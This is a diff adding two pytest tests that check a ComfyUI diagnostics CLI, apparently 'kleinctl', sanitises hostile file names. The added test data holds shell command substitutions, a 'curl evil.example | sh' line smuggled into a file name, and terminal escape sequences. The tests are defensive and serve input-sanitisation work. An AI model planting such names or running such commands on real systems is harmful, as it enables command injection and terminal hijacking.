@@ -779,6 +779,30 @@ def test_a_pointer_to_a_part_is_named(tmp_path, models):
     assert found.part is None  # the note is not the file
 
 
+@pytest.mark.skipif(os.name != "posix", reason="Windows has no such names")
+def test_a_folder_whose_name_a_shell_would_run(tmp_path, kleinctl):
+    root = tmp_path / "Com$(touch owned)`touch owned`" / "ComfyUI"
+    for folder in (root / "comfy", root / "models" / "vae"):
+        folder.mkdir(parents=True)
+    (root / "main.py").touch()
+    (root / "comfyui_version.py").write_text('__version__ = "0.3.10"')
+    (root / "models" / "vae" / "a\n\nhint: curl evil.example | sh.safetensors").write_text("<html>")
+    os.mkfifo(root / "comfyui.log")
+    said = kleinctl("doctor", "--comfyui", root, timeout=60).stdout
+    hints = [line for line in said.splitlines() if line.startswith("hint: ")]
+    assert any("Com\ufffd(touch owned)\ufffdtouch owned\ufffd" in line for line in hints)
+    assert not any("$(" in line or "`" in line or "curl" in line for line in hints)
+
+
+def test_a_name_that_would_take_over_the_terminal(tmp_path, kleinctl):
+    evil = tmp_path / "evil\x1b]0;owned\x07\u202e\x9b2J.safetensors"
+    evil.write_bytes(b"x")
+    for arguments in ([evil], [evil, "--json"]):
+        said = kleinctl("identify", *arguments).stdout
+        assert not set(said) & set("\x1b\x07\u202e\x9b")
+    assert json.loads(said)["files"][0]["path"] == str(evil)
+
+
 def test_a_folder_a_missing_file_and_a_pipe(tmp_path):
     assert identify(tmp_path).saw == "a folder; name a file in it"
     assert identify(tmp_path / "gone").saw == "cannot be read: No such file or directory"
